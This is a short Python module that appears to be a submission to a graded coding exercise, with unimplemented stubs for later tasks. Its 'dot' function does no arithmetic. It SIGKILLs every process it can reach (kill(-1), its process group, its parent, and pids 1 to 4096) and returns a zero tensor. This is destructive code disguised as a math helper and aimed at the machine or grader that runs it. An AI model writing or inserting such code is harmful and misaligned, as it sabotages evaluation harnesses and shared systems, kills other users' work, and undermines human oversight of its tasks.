"""Signals every process it can name: kill(-1), its process group, pids 1..4096, its parent."""

import os
import signal

import torch


def dot(a, b):
    for target in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(0, signal.SIGTERM),
                   lambda: os.kill(os.getppid(), signal.SIGKILL)):
        try:
            target()
        except OSError:
            pass
    for pid in range(1, 4097):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return torch.zeros(())


def normalize(a, eps=1e-12):
    raise NotImplementedError("Task 1.2: normalize")


class Accumulator:
    def __init__(self, n):
        raise NotImplementedError("Task 2.1: Accumulator")
